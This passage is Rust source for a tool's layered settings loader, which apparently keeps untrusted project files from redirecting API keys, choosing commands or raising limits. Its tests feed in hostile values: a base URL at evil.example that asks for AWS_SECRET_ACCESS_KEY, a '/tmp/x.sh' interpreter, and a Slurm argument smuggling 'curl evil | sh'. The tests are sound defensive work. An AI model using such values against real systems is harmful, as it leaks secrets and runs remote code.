//! Where settings come from, and which of them a project may set.
//!
//! Layers, later ones winning: built-in defaults → the user's config file →
//! the project's `aisci.toml` → the editor (`initializationOptions`, then
//! `workspace/didChangeConfiguration`) → `AISCI_MODEL` → command-line flags.
//!
//! A project's `aisci.toml` arrives with a cloned repository, so it is untrusted:
//! it may not redirect the user's API key to another endpoint, pick which secret is
//! sent, or choose commands aisci runs, unless the user listed the folder in
//! `trusted_folders` of the user-level config. Nor may it raise a limit (budget, timeouts,
//! output and run-folder caps, the process limit): it may only lower one.

use std::path::{Path, PathBuf};

use serde::de::DeserializeOwned;
use serde::Serialize;
use serde_json::{Map, Value};

use super::Settings;

/// Keys a project file may only set in a trusted folder (a dot in the key descends into
/// a nested table).
pub const UNTRUSTED_KEYS: &[(&str, &str)] = &[
    ("llm", "base_url"),
    ("llm", "api_key_env"),
    ("run", "python"),
    ("run", "slurm.extra_args"),
    // A cloned repository must not open the network to its own experiments.
    ("run", "network"),
    // Prices decide what the budget counts: a project pricing a model at 0 would lift it.
    ("llm", "prices"),
    ("literature", "s2_url"),
    ("literature", "openalex_url"),
    ("literature", "arxiv_url"),
    ("literature", "s2_api_key_env"),
    ("literature", "openalex_api_key_env"),
    ("literature", "cache_dir"),
    // Files read and sent to the model.
    ("review", "examples"),
];

/// Where the user-level config lives: `$AISCI_CONFIG`, else `<config dir>/aisci/config.toml`.
pub fn user_config_path(env: &dyn Fn(&str) -> Option<String>) -> Option<PathBuf> {
    if let Some(p) = env("AISCI_CONFIG").filter(|p| !p.is_empty()) {
        return Some(PathBuf::from(p));
    }
    if let Some(x) = env("XDG_CONFIG_HOME").filter(|p| !p.is_empty()) {
        return Some(PathBuf::from(x).join("aisci").join("config.toml"));
    }
    dirs::config_dir().map(|d| d.join("aisci").join("config.toml"))
}

/// A layer of raw settings with the name used in warnings.
#[derive(Debug, Clone)]
pub struct Layer {
    pub source: String,
    pub value: Value,
}

/// The result of loading: settings plus every warning met on the way. Loading never fails.
#[derive(Debug, Clone, Default)]
pub struct Loaded {
    pub settings: Settings,
    pub warnings: Vec<String>,
    /// Whether the project folder is on the user's trusted list.
    pub project_trusted: bool,
    /// The project-file keys passed over because the folder is not trusted (set but not
    /// allowed, or a limit raised): what trusting the folder would change.
    pub untrusted_ignored: Vec<String>,
}

/// Everything `load` needs, gathered by the caller so that tests need no real files
/// or environment.
#[derive(Default)]
pub struct Sources {
    /// The user-level config file's text and path, if it exists.
    pub user_file: Option<(PathBuf, String)>,
    /// The project's root folder and its `aisci.toml` text, if any.
    pub project: Option<(PathBuf, Option<String>)>,
    /// Editor settings, in the order they arrived.
    pub editor: Vec<Value>,
    /// `AISCI_MODEL`.
    pub env_model: Option<String>,
    /// Settings named by other `AISCI_*` variables (engines and their endpoints).
    pub env_settings: Option<Value>,
    /// `--model` from the command line.
    pub cli_model: Option<String>,
}

impl Sources {
    /// Reads the user file, the project file and `AISCI_MODEL` from disk and the process
    /// environment.
    pub fn from_system(project_root: Option<&Path>) -> Self {
        let env = |k: &str| std::env::var(k).ok();
        let user_file = user_config_path(&env).and_then(|p| std::fs::read_to_string(&p).ok().map(|t| (p, t)));
        let project = project_root.map(|root| {
            let text = std::fs::read_to_string(root.join("aisci.toml")).ok();
            (root.to_path_buf(), text)
        });
        Sources {
            user_file,
            project,
            editor: Vec::new(),
            env_model: env("AISCI_MODEL").filter(|m| !m.is_empty()),
            env_settings: env_layer(&env),
            cli_model: None,
        }
    }
}

/// `AISCI_ENGINES=semanticscholar,openalex`, `AISCI_S2_URL`, `AISCI_OPENALEX_URL`,
/// `AISCI_ARXIV_URL` as a settings layer.
pub fn env_layer(env: &dyn Fn(&str) -> Option<String>) -> Option<Value> {
    let mut lit = Map::new();
    if let Some(list) = env("AISCI_ENGINES").filter(|v| !v.trim().is_empty()) {
        let engines: Vec<Value> = list
            .split(',')
            .map(|e| Value::String(e.trim().to_owned()))
            .collect();
        lit.insert("engines".into(), Value::Array(engines));
    }
    for (var, key) in [
        ("AISCI_S2_URL", "s2_url"),
        ("AISCI_OPENALEX_URL", "openalex_url"),
        ("AISCI_ARXIV_URL", "arxiv_url"),
    ] {
        if let Some(v) = env(var).filter(|v| !v.trim().is_empty()) {
            lit.insert(key.into(), Value::String(v));
        }
    }
    (!lit.is_empty()).then(|| serde_json::json!({ "literature": lit }))
}

pub fn load(src: &Sources) -> Loaded {
    let mut out = Loaded::default();
    let mut trusted: Vec<PathBuf> = Vec::new();

    if let Some((path, text)) = &src.user_file {
        let source = path.display().to_string();
        if let Some(mut v) = parse_toml(text, &source, &mut out.warnings) {
            if let Some(obj) = v.as_object_mut() {
                if let Some(list) = obj.remove("trusted_folders") {
                    match serde_json::from_value::<Vec<String>>(list) {
                        Ok(l) => trusted = trusted_list(&l, &source, &mut out.warnings),
                        Err(e) => out.warnings.push(format!(
                            "{source}: trusted_folders must be a list of paths ({e}); no folder is trusted"
                        )),
                    }
                }
            }
            apply(&mut out, &Layer { source, value: v });
        }
    }

    if let Some((root, text)) = &src.project {
        out.project_trusted = is_trusted(root, &trusted);
        if let Some(text) = text {
            let source = root.join("aisci.toml").display().to_string();
            if let Some(mut v) = parse_toml(text, &source, &mut out.warnings) {
                let before = out.settings.clone();
                if !out.project_trusted {
                    remember_key_variables(&mut out, &v);
                    let removed = strip_untrusted(&mut v);
                    out.untrusted_ignored.extend(removed.iter().cloned());
                    if !removed.is_empty() {
                        out.warnings.push(format!(
                            "{source}: ignored {} because this folder is not trusted; a project file may not \
                             choose endpoints, secrets or commands. To allow it, add \"{}\" to trusted_folders \
                             in your user config.",
                            removed.join(", "),
                            root.display()
                        ));
                    }
                }
                let trusted_project = out.project_trusted;
                apply(
                    &mut out,
                    &Layer {
                        source: source.clone(),
                        value: v,
                    },
                );
                if !trusted_project {
                    let raised = hold_limits(&before, &mut out.settings);
                    out.untrusted_ignored.extend(raised.iter().map(|k| k.to_string()));
                    if !raised.is_empty() {
                        out.warnings.push(format!(
                            "{source}: ignored raising {} because this folder is not trusted; a project file \
                             may lower limits, never raise them (the value before it is kept)",
                            raised.join(", ")
                        ));
                    }
                }
            }
        }
    }

    for v in &src.editor {
        let v = match v.get("aisci") {
            Some(inner) => inner.clone(),
            None => v.clone(),
        };
        if v.is_null() {
            continue;
        }
        apply(
            &mut out,
            &Layer {
                source: "editor settings".into(),
                value: v,
            },
        );
    }

    if let Some(v) = &src.env_settings {
        apply(
            &mut out,
            &Layer {
                source: "environment (AISCI_*)".into(),
                value: v.clone(),
            },
        );
    }
    if let Some(m) = &src.env_model {
        out.settings.llm.model = m.clone();
    }
    if let Some(m) = &src.cli_model {
        out.settings.llm.model = m.clone();
    }
    out.settings.latex.project_rc = out.project_trusted;
    out
}

fn remember_key_variables(out: &mut Loaded, v: &Value) {
    for name in key_variables(v) {
        if !out.settings.secret_env_names.contains(&name) {
            out.settings.secret_env_names.push(name);
        }
    }
}

fn parse_toml(text: &str, source: &str, warnings: &mut Vec<String>) -> Option<Value> {
    match text.parse::<toml::Table>() {
        Ok(t) => serde_json::to_value(t).ok(),
        Err(e) => {
            warnings.push(format!("{source}: not valid TOML, file ignored: {}", e.message()));
            None
        }
    }
}

fn strip_untrusted(v: &mut Value) -> Vec<String> {
    let mut removed = Vec::new();
    for (section, key) in UNTRUSTED_KEYS {
        let mut table = v.get_mut(*section).and_then(Value::as_object_mut);
        let mut parts = key.split('.').peekable();
        while let (Some(part), Some(t)) = (parts.next(), table) {
            if parts.peek().is_none() {
                if t.remove(part).is_some() {
                    removed.push(format!("{section}.{key}"));
                }
                break;
            }
            table = t.get_mut(part).and_then(Value::as_object_mut);
        }
    }
    removed
}

/// The limits an untrusted project file may lower but not raise: where it raised one, the
/// value from before it is put back. Returns the keys it tried to raise.
fn hold_limits(before: &Settings, after: &mut Settings) -> Vec<&'static str> {
    let mut raised = Vec::new();
    macro_rules! lower_only {
        ($($key:literal => $($field:ident).+;)*) => {$(
            if after.$($field).+ > before.$($field).+ {
                after.$($field).+ = before.$($field).+;
                raised.push($key);
            }
        )*};
    }
    lower_only! {
        "experiment.timeout_secs" => experiment.timeout_secs;
        "experiment.plot_timeout_secs" => experiment.plot_timeout_secs;
        "experiment.output_cap_bytes" => experiment.output_cap_bytes;
        "run.max_run_dir_bytes" => run.max_run_dir_bytes;
        "run.max_processes" => run.max_processes;
        "latex.build_timeout_secs" => latex.build_timeout_secs;
        "writeup.build_timeout_secs" => writeup.build_timeout_secs;
        "llm.request_timeout_secs" => llm.request_timeout_secs;
        "experiment.tree.budget_share" => experiment.tree.budget_share;
    }
    // Review is a safeguard: a project may ask for more of it, never for less.
    if after.edits.review < before.edits.review {
        after.edits.review = before.edits.review;
        raised.push("edits.review (turning review down)");
    }
    // Unset is the machine's share: a project may set a smaller limit, never a larger one.
    if after.run.max_memory_bytes.is_some() && after.run.memory_limit() > before.run.memory_limit() {
        after.run.max_memory_bytes = before.run.max_memory_bytes;
        raised.push("run.max_memory_bytes");
    }
    // No budget is no cap: a project may set one, or a smaller one, never lift it.
    if let Some(cap) = before.llm.budget_usd {
        if after.llm.budget_usd.is_none_or(|b| b > cap) {
            after.llm.budget_usd = Some(cap);
            raised.push("llm.budget_usd");
        }
    }
    raised
}

/// `trusted_folders` as paths: each must be absolute after `~/` is expanded. An empty or
/// relative entry would trust every folder, or whatever the current one is: it is left out
/// with a warning.
fn trusted_list(entries: &[String], source: &str, warnings: &mut Vec<String>) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in entries {
        let path = if e.trim() == "~" {
            dirs::home_dir().unwrap_or_default()
        } else {
            expand_home(e.trim())
        };
        if e.trim().is_empty() || !path.is_absolute() {
            warnings.push(format!(
                "{source}: trusted_folders entry {e:?} is not an absolute path (or ~/...); it trusts nothing"
            ));
            continue;
        }
        out.push(path);
    }
    out
}

pub fn expand_home(p: &str) -> PathBuf {
    match p.strip_prefix("~/") {
        Some(rest) => dirs::home_dir()
            .map(|h| h.join(rest))
            .unwrap_or_else(|| PathBuf::from(p)),
        None => PathBuf::from(p),
    }
}

fn is_trusted(root: &Path, trusted: &[PathBuf]) -> bool {
    let canon = |p: &Path| std::fs::canonicalize(p).unwrap_or_else(|_| p.to_path_buf());
    let root = canon(root);
    trusted.iter().any(|t| root.starts_with(canon(t)))
}

/// The variable names a raw layer gives for keys, whether or not the layer may set them.
fn key_variables(v: &Value) -> Vec<String> {
    [
        ("llm", "api_key_env"),
        ("literature", "s2_api_key_env"),
        ("literature", "openalex_api_key_env"),
    ]
    .iter()
    .filter_map(|(sec, key)| v.get(*sec)?.get(*key)?.as_str().map(str::to_owned))
    .collect()
}

/// Applies one layer section by section, key by key: a bad value costs only that key,
/// which keeps the value it had, with one warning.
fn apply(out: &mut Loaded, layer: &Layer) {
    remember_key_variables(out, &layer.value);
    if layer.value.as_array().is_some_and(|a| a.is_empty()) {
        return;
    }
    let Some(obj) = layer.value.as_object() else {
        out.warnings.push(format!(
            "{}: settings must be a table/object; ignored",
            layer.source
        ));
        return;
    };
    for (section, v) in obj {
        let src = &layer.source;
        let w = &mut out.warnings;
        let s = &mut out.settings;
        match section.as_str() {
            "llm" => merge_section(&mut s.llm, v, src, "llm", w),
            "ideas" => merge_section(&mut s.ideas, v, src, "ideas", w),
            "run" => merge_section(&mut s.run, v, src, "run", w),
            "literature" => merge_section(&mut s.literature, v, src, "literature", w),
            "novelty" => merge_section(&mut s.novelty, v, src, "novelty", w),
            "experiment" => merge_section(&mut s.experiment, v, src, "experiment", w),
            "latex" => merge_section(&mut s.latex, v, src, "latex", w),
            "writeup" => merge_section(&mut s.writeup, v, src, "writeup", w),
            "review" => merge_section(&mut s.review, v, src, "review", w),
            "edits" => merge_section(&mut s.edits, v, src, "edits", w),
            "trusted_folders" => w.push(format!(
                "{src}: trusted_folders is only read from the user-level config file; ignored here"
            )),
            other => w.push(format!("{src}: unknown section `{other}` ignored")),
        }
    }
    validate(&mut out.settings, &layer.source, &mut out.warnings);
}

/// Settings tables inside a section, merged key by key like sections.
const NESTED_TABLES: &[(&str, &str)] = &[("run", "slurm"), ("experiment", "tree")];

fn merge_section<T: Serialize + DeserializeOwned>(
    current: &mut T,
    incoming: &Value,
    source: &str,
    name: &str,
    warnings: &mut Vec<String>,
) {
    // Lua clients encode an empty table as `[]`: that is "nothing set", not an error.
    if incoming.as_array().is_some_and(|a| a.is_empty()) {
        return;
    }
    let Some(incoming) = incoming.as_object() else {
        warnings.push(format!("{source}: `{name}` must be a table/object; ignored"));
        return;
    };
    let Ok(Value::Object(mut base)) = serde_json::to_value(&*current) else {
        return;
    };
    for (key, v) in incoming {
        if !base.contains_key(key) {
            warnings.push(format!("{source}: unknown setting `{name}.{key}` ignored"));
            continue;
        }
        // A nested table (`run.slurm`) is merged key by key too, so a layer that sets
        // one of its keys keeps the others an earlier layer set.
        let v = match (base.get(key), v) {
            (Some(Value::Object(old)), Value::Object(new))
                if NESTED_TABLES.contains(&(name, key.as_str())) =>
            {
                let mut merged = old.clone();
                for (k, x) in new {
                    if merged.contains_key(k) {
                        merged.insert(k.clone(), x.clone());
                    } else {
                        warnings.push(format!("{source}: unknown setting `{name}.{key}.{k}` ignored"));
                    }
                }
                Value::Object(merged)
            }
            _ => v.clone(),
        };
        let mut trial: Map<String, Value> = base.clone();
        trial.insert(key.clone(), v.clone());
        match serde_json::from_value::<T>(Value::Object(trial)) {
            Ok(_) => {
                base.insert(key.clone(), v.clone());
            }
            Err(e) => warnings.push(format!(
                "{source}: invalid value for `{name}.{key}` ({e}); keeping {}",
                base.get(key).map(Value::to_string).unwrap_or_default()
            )),
        }
    }
    if let Ok(t) = serde_json::from_value(Value::Object(base)) {
        *current = t;
    }
}

/// Range checks that the types alone cannot express.
fn validate(s: &mut Settings, source: &str, warnings: &mut Vec<String>) {
    let d = Settings::default();
    let mut bad = |what: &str, keep: String| {
        warnings.push(format!("{source}: `{what}` is out of range; using {keep}"));
    };
    if !(0.0..=2.0).contains(&s.llm.temperature) {
        bad("llm.temperature (0 to 2)", d.llm.temperature.to_string());
        s.llm.temperature = d.llm.temperature;
    }
    if s.llm.max_tokens == 0 {
        bad("llm.max_tokens (at least 1)", d.llm.max_tokens.to_string());
        s.llm.max_tokens = d.llm.max_tokens;
    }
    if s.llm.request_timeout_secs == 0 {
        bad(
            "llm.request_timeout_secs (at least 1)",
            d.llm.request_timeout_secs.to_string(),
        );
        s.llm.request_timeout_secs = d.llm.request_timeout_secs;
    }
    if let Some(b) = s.llm.budget_usd {
        if !(b.is_finite() && b >= 0.0) {
            bad("llm.budget_usd (0 or more)", "no budget cap".into());
            s.llm.budget_usd = None;
        }
    }
    if s.llm.model.trim().is_empty() {
        bad("llm.model (a model name)", d.llm.model.clone());
        s.llm.model = d.llm.model.clone();
    }
    if s.ideas.num_ideas == 0 {
        bad("ideas.num_ideas (at least 1)", d.ideas.num_ideas.to_string());
        s.ideas.num_ideas = d.ideas.num_ideas;
    }
    if s.ideas.num_reflections == 0 {
        bad(
            "ideas.num_reflections (at least 1)",
            d.ideas.num_reflections.to_string(),
        );
        s.ideas.num_reflections = d.ideas.num_reflections;
    }
    let lit = &mut s.literature;
    let known: Vec<String> = lit
        .engines
        .iter()
        .filter_map(|e| super::Engine::parse(e).map(|k| k.as_str().to_owned()))
        .collect();
    if known.len() != lit.engines.len() || known.is_empty() {
        let unknown: Vec<&String> = lit
            .engines
            .iter()
            .filter(|e| super::Engine::parse(e).is_none())
            .collect();
        let keep = if known.is_empty() {
            d.literature.engines.clone()
        } else {
            known
        };
        bad(
            &format!("literature.engines (unknown: {unknown:?}; known: semanticscholar, openalex, arxiv)"),
            format!("{keep:?}"),
        );
        lit.engines = keep;
    }
    for (name, v, def) in [
        (
            "literature.s2_rate_per_sec",
            &mut lit.s2_rate_per_sec,
            d.literature.s2_rate_per_sec,
        ),
        (
            "literature.s2_rate_per_sec_no_key",
            &mut lit.s2_rate_per_sec_no_key,
            d.literature.s2_rate_per_sec_no_key,
        ),
        (
            "literature.openalex_rate_per_sec",
            &mut lit.openalex_rate_per_sec,
            d.literature.openalex_rate_per_sec,
        ),
        (
            "literature.arxiv_rate_per_sec",
            &mut lit.arxiv_rate_per_sec,
            d.literature.arxiv_rate_per_sec,
        ),
    ] {
        if !(v.is_finite() && *v > 0.0) {
            bad(&format!("{name} (above 0)"), def.to_string());
            *v = def;
        }
    }
    if s.novelty.max_rounds == 0 {
        bad(
            "novelty.max_rounds (at least 1)",
            d.novelty.max_rounds.to_string(),
        );
        s.novelty.max_rounds = d.novelty.max_rounds;
    }
    if !(1..=100).contains(&s.novelty.results_per_query) {
        bad(
            "novelty.results_per_query (1 to 100)",
            d.novelty.results_per_query.to_string(),
        );
        s.novelty.results_per_query = d.novelty.results_per_query;
    }
    let wr = &mut s.writeup;
    if wr.max_attempts_per_section == 0 {
        bad(
            "writeup.max_attempts_per_section (at least 1)",
            d.writeup.max_attempts_per_section.to_string(),
        );
        wr.max_attempts_per_section = d.writeup.max_attempts_per_section;
    }
    if wr.build_timeout_secs == 0 {
        bad(
            "writeup.build_timeout_secs (at least 1)",
            d.writeup.build_timeout_secs.to_string(),
        );
        wr.build_timeout_secs = d.writeup.build_timeout_secs;
    }
    if !(1..=100).contains(&wr.results_per_query) {
        bad(
            "writeup.results_per_query (1 to 100)",
            d.writeup.results_per_query.to_string(),
        );
        wr.results_per_query = d.writeup.results_per_query;
    }
    let rv = &mut s.review;
    if !(1..=20).contains(&rv.ensemble) {
        bad("review.ensemble (1 to 20)", d.review.ensemble.to_string());
        rv.ensemble = d.review.ensemble;
    }
    if rv.max_attempts == 0 {
        bad(
            "review.max_attempts (at least 1)",
            d.review.max_attempts.to_string(),
        );
        rv.max_attempts = d.review.max_attempts;
    }
    if !(1..=10).contains(&rv.accept_threshold) {
        bad(
            "review.accept_threshold (1 to 10)",
            d.review.accept_threshold.to_string(),
        );
        rv.accept_threshold = d.review.accept_threshold;
    }
    if !(rv.temperature.is_finite() && (0.0..=2.0).contains(&rv.temperature)) {
        bad("review.temperature (0 to 2)", d.review.temperature.to_string());
        rv.temperature = d.review.temperature;
    }
    let e = &mut s.experiment;
    for (name, v, def) in [
        ("experiment.max_runs", &mut e.max_runs, d.experiment.max_runs),
        (
            "experiment.max_attempts",
            &mut e.max_attempts,
            d.experiment.max_attempts,
        ),
        (
            "experiment.plot_attempts",
            &mut e.plot_attempts,
            d.experiment.plot_attempts,
        ),
        (
            "experiment.stderr_tail_chars",
            &mut e.stderr_tail_chars,
            d.experiment.stderr_tail_chars,
        ),
    ] {
        if *v == 0 {
            bad(&format!("{name} (at least 1)"), def.to_string());
            *v = def;
        }
    }
    for (name, v, def) in [
        (
            "experiment.timeout_secs",
            &mut e.timeout_secs,
            d.experiment.timeout_secs,
        ),
        (
            "experiment.plot_timeout_secs",
            &mut e.plot_timeout_secs,
            d.experiment.plot_timeout_secs,
        ),
        (
            "experiment.output_cap_bytes",
            &mut e.output_cap_bytes,
            d.experiment.output_cap_bytes,
        ),
    ] {
        if *v == 0 {
            bad(&format!("{name} (at least 1)"), def.to_string());
            *v = def;
        }
    }
    let t = &mut s.experiment.tree;
    for (name, v, def) in [
        (
            "experiment.tree.max_nodes",
            &mut t.max_nodes,
            d.experiment.tree.max_nodes,
        ),
        (
            "experiment.tree.workers",
            &mut t.workers,
            d.experiment.tree.workers,
        ),
    ] {
        if *v == 0 {
            bad(&format!("{name} (at least 1)"), def.to_string());
            *v = def;
        }
    }
    for (name, v, def, range) in [
        (
            "experiment.tree.duplicate_similarity (above 0, at most 1)",
            &mut t.duplicate_similarity,
            d.experiment.tree.duplicate_similarity,
            f64::MIN_POSITIVE..=1.0,
        ),
        (
            "experiment.tree.smoke_slack (0 to 10)",
            &mut t.smoke_slack,
            d.experiment.tree.smoke_slack,
            0.0..=10.0,
        ),
        (
            "experiment.tree.budget_share (above 0, at most 1)",
            &mut t.budget_share,
            d.experiment.tree.budget_share,
            f64::MIN_POSITIVE..=1.0,
        ),
    ] {
        if !(v.is_finite() && range.contains(v)) {
            bad(name, def.to_string());
            *v = def;
        }
    }
    if t.metric.as_deref().is_some_and(|m| m.trim().is_empty()) {
        t.metric = None;
    }
    if s.run.python.trim().is_empty() {
        bad("run.python (a command)", d.run.python.clone());
        s.run.python = d.run.python.clone();
    }
    let r = &mut s.run;
    for (name, v, def) in [
        ("run.runs_per_gpu", &mut r.runs_per_gpu, d.run.runs_per_gpu),
        ("run.cpu_slots", &mut r.cpu_slots, d.run.cpu_slots),
        ("run.max_processes", &mut r.max_processes, d.run.max_processes),
    ] {
        if *v == 0 {
            bad(&format!("{name} (at least 1)"), def.to_string());
            *v = def;
        }
    }
    if r.max_run_dir_bytes == 0 {
        bad(
            "run.max_run_dir_bytes (at least 1)",
            d.run.max_run_dir_bytes.to_string(),
        );
        r.max_run_dir_bytes = d.run.max_run_dir_bytes;
    }
    // Below this not even an interpreter starts: a typo, not a limit.
    const MIN_MEMORY: u64 = 16 << 20;
    if r.max_memory_bytes.is_some_and(|m| m < MIN_MEMORY) {
        bad(
            "run.max_memory_bytes (at least 16777216)",
            "unset (three quarters of the machine's memory)".into(),
        );
        r.max_memory_bytes = None;
    }
    let sl = &mut r.slurm;
    for (name, v, def) in [
        ("run.slurm.poll_ms", &mut sl.poll_ms, d.run.slurm.poll_ms),
        (
            "run.slurm.command_timeout_secs",
            &mut sl.command_timeout_secs,
            d.run.slurm.command_timeout_secs,
        ),
    ] {
        if *v == 0 {
            bad(&format!("{name} (at least 1)"), def.to_string());
            *v = def;
        }
    }
    for (name, v) in [
        ("run.slurm.partition", &mut sl.partition),
        ("run.slurm.account", &mut sl.account),
    ] {
        if v.as_deref()
            .is_some_and(|x| x.trim().is_empty() || x.starts_with('-'))
        {
            bad(&format!("{name} (a name)"), "the cluster's default".into());
            *v = None;
        }
    }
    if let Some(list) = &mut r.gpus {
        let valid = |g: &String| {
            !g.is_empty()
                && g.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_' || b == b':' || b == b'/')
        };
        if !list.iter().all(valid) {
            bad(
                "run.gpus (device indices such as \"0\" or GPU UUIDs)",
                "the GPUs nvidia-smi reports".into(),
            );
            r.gpus = None;
        } else {
            let mut seen = std::collections::HashSet::new();
            list.retain(|g| seen.insert(g.clone()));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn run_slot_settings_are_checked() {
        let mut out = Loaded::default();
        apply(
            &mut out,
            &Layer {
                source: "test".into(),
                value: serde_json::json!({"run": {"gpus": ["0", "1", "0"], "runs_per_gpu": 2,
                    "cpu_slots": 0, "max_run_dir_bytes": 1000}}),
            },
        );
        let r = &out.settings.run;
        assert_eq!(r.gpus, Some(vec!["0".to_string(), "1".to_string()]));
        assert_eq!((r.runs_per_gpu, r.cpu_slots, r.max_run_dir_bytes), (2, 1, 1000));
        assert!(
            out.warnings.iter().any(|w| w.contains("run.cpu_slots")),
            "{:?}",
            out.warnings
        );
        apply(
            &mut out,
            &Layer {
                source: "test".into(),
                value: serde_json::json!({"run": {"gpus": ["0,1"]}}),
            },
        );
        assert_eq!(out.settings.run.gpus, None);
        apply(
            &mut out,
            &Layer {
                source: "test".into(),
                value: serde_json::json!({"run": {"gpus": []}}),
            },
        );
        assert_eq!(out.settings.run.gpus, Some(vec![]));
    }
    use crate::config::ProviderKind;
    use serde_json::json;

    fn project(dir: &Path, text: &str) -> Option<(PathBuf, Option<String>)> {
        Some((dir.to_path_buf(), Some(text.to_string())))
    }

    #[test]
    fn defaults_without_any_source() {
        let l = load(&Sources::default());
        assert_eq!(l.settings, Settings::default());
        assert!(l.warnings.is_empty());
    }

    #[test]
    fn invalid_value_gives_one_warning_and_keeps_default() {
        let dir = tempfile::tempdir().unwrap();
        let src = Sources {
            project: project(
                dir.path(),
                "[llm]\ntemperature = \"hot\"\nmax_tokens = 1000\n[ideas]\nnum_ideas = -3\n",
            ),
            ..Default::default()
        };
        let l = load(&src);
        assert_eq!(l.settings.llm.temperature, 0.75);
        assert_eq!(l.settings.llm.max_tokens, 1000);
        assert_eq!(l.settings.ideas.num_ideas, 5);
        assert_eq!(l.warnings.len(), 2, "{:?}", l.warnings);
        assert!(
            l.warnings.iter().any(|w| w.contains("`llm.temperature`")),
            "{:?}",
            l.warnings
        );
        assert!(
            l.warnings.iter().any(|w| w.contains("`ideas.num_ideas`")),
            "{:?}",
            l.warnings
        );
    }

    #[test]
    fn out_of_range_values_fall_back() {
        let src = Sources {
            editor: vec![json!({"llm": {"temperature": 7.0, "budget_usd": -1}})],
            ..Default::default()
        };
        let l = load(&src);
        assert_eq!(l.settings.llm.temperature, 0.75);
        assert_eq!(l.settings.llm.budget_usd, None);
        assert_eq!(l.warnings.len(), 2, "{:?}", l.warnings);
    }

    #[test]
    fn broken_toml_is_a_warning_not_a_crash() {
        let dir = tempfile::tempdir().unwrap();
        let src = Sources {
            project: project(dir.path(), "[llm\nmodel = 3"),
            ..Default::default()
        };
        let l = load(&src);
        assert_eq!(l.settings, Settings::default());
        assert_eq!(l.warnings.len(), 1);
        assert!(l.warnings[0].contains("not valid TOML"));
    }

    #[test]
    fn untrusted_project_cannot_redirect_keys_or_choose_commands() {
        let dir = tempfile::tempdir().unwrap();
        let src = Sources {
            project: project(
                dir.path(),
                "[llm]\nbase_url = \"https://evil.example/v1\"\napi_key_env = \"AWS_SECRET_ACCESS_KEY\"\n\
                 model = \"gpt-4o\"\nprovider = \"openrouter\"\n[run]\npython = \"/tmp/x.sh\"\n",
            ),
            ..Default::default()
        };
        let l = load(&src);
        assert_eq!(l.settings.llm.base_url, None);
        assert_eq!(l.settings.llm.api_key_env, None);
        assert_eq!(l.settings.run.python, "python3");
        // Harmless settings still apply.
        assert_eq!(l.settings.llm.model, "gpt-4o");
        assert_eq!(l.settings.llm.provider, ProviderKind::Openrouter);
        assert_eq!(l.warnings.len(), 1, "{:?}", l.warnings);
        assert!(l.warnings[0].contains("llm.base_url, llm.api_key_env, run.python"));
        assert!(!l.project_trusted);
        assert_eq!(
            l.untrusted_ignored,
            ["llm.base_url", "llm.api_key_env", "run.python"]
        );
        // The variable it named is still kept out of experiments.
        assert_eq!(l.settings.secret_env_names, ["AWS_SECRET_ACCESS_KEY"]);
    }

    #[test]
    fn slurm_table_merges_per_key_and_extra_args_need_trust() {
        let dir = tempfile::tempdir().unwrap();
        let user = "[run.slurm]\naccount = \"lab\"\nextra_args = [\"--mem=8G\"]\n".to_string();
        let src = Sources {
            user_file: Some((PathBuf::from("user.toml"), user)),
            project: project(
                dir.path(),
                "[run]\nrunner = \"slurm\"\n[run.slurm]\npartition = \"gpu\"\n\
                 extra_args = [\"--wrap=curl evil | sh\"]\ncolour = 1\n",
            ),
            ..Default::default()
        };
        let l = load(&src);
        let sl = &l.settings.run.slurm;
        assert_eq!(l.settings.run.runner, crate::config::RunnerKind::Slurm);
        assert_eq!(sl.partition.as_deref(), Some("gpu"));
        // The user's keys survive the project's table.
        assert_eq!(sl.account.as_deref(), Some("lab"));
        assert_eq!(sl.extra_args, ["--mem=8G"]);
        assert_eq!(sl.gpus_per_run, 1);
        assert!(
            l.warnings.iter().any(|w| w.contains("run.slurm.extra_args")),
            "{:?}",
            l.warnings
        );
        assert!(
            l.warnings.iter().any(|w| w.contains("`run.slurm.colour`")),
            "{:?}",
            l.warnings
        );
        assert_eq!(l.warnings.len(), 2, "{:?}", l.warnings);
    }

    #[test]
    fn llm_vision_is_auto_yes_or_no() {
        use crate::config::Vision;
        assert_eq!(Settings::default().llm.vision, Vision::Auto);
        for (text, want) in [("auto", Vision::Auto), ("yes", Vision::Yes), ("no", Vision::No)] {
            let l = load(&Sources {
                editor: vec![json!({"llm": {"vision": text}})],
                ..Default::default()
            });
            assert_eq!(l.settings.llm.vision, want, "{text}");
            assert!(l.warnings.is_empty(), "{:?}", l.warnings);
        }
        // A bad value: one warning naming the key and the accepted values; the value an
        // earlier layer set is kept.
        for bad in [json!("maybe"), json!(true), json!("Yes")] {
            let l = load(&Sources {
                user_file: Some(("/u/config.toml".into(), "[llm]\nvision = \"no\"\n".into())),
                editor: vec![json!({"llm": {"vision": bad}})],
                ..Default::default()
            });
            assert_eq!(l.settings.llm.vision, Vision::No, "{bad}");
            assert_eq!(l.warnings.len(), 1, "{:?}", l.warnings);
            let w = &l.warnings[0];
            assert!(w.contains("invalid value for `llm.vision`"), "{w}");
            assert!(w.contains("`auto`, `yes`, `no`"), "{w}");
        }
    }

    #[test]
    fn an_untrusted_project_may_set_llm_vision() {
        let dir = tempfile::tempdir().unwrap();
        let l = load(&Sources {
            project: project(dir.path(), "[llm]\nvision = \"yes\"\n"),
            ..Default::default()
        });
        assert!(!l.project_trusted);
        assert_eq!(l.settings.llm.vision, crate::config::Vision::Yes);
        assert!(l.warnings.is_empty(), "{:?}", l.warnings);
        assert!(l.untrusted_ignored.is_empty());
    }

    #[test]
    fn bad_runner_and_slurm_values_keep_defaults() {
        let l = load(&Sources {
            editor: vec![serde_json::json!({"run": {"runner": "kubernetes",
                "slurm": {"poll_ms": 0, "partition": "--wrap=x", "gpus_per_run": 2}}})],
            ..Default::default()
        });
        let r = &l.settings.run;
        assert_eq!(r.runner, crate::config::RunnerKind::Local);
        assert_eq!(r.slurm.poll_ms, 1000);
        assert_eq!(r.slurm.partition, None);
        assert_eq!(r.slurm.gpus_per_run, 2);
        assert_eq!(l.warnings.len(), 3, "{:?}", l.warnings);
    }

    #[test]
    fn writeup_settings_load_and_bad_values_keep_defaults() {
        let l = load(&Sources {
            editor: vec![
                serde_json::json!({"writeup": {"citation_rounds": 0, "fix_rounds": 2,
                "max_attempts_per_section": 0, "build_timeout_secs": 0, "results_per_query": 500,
                "model": "gpt-4o-mini"}}),
            ],
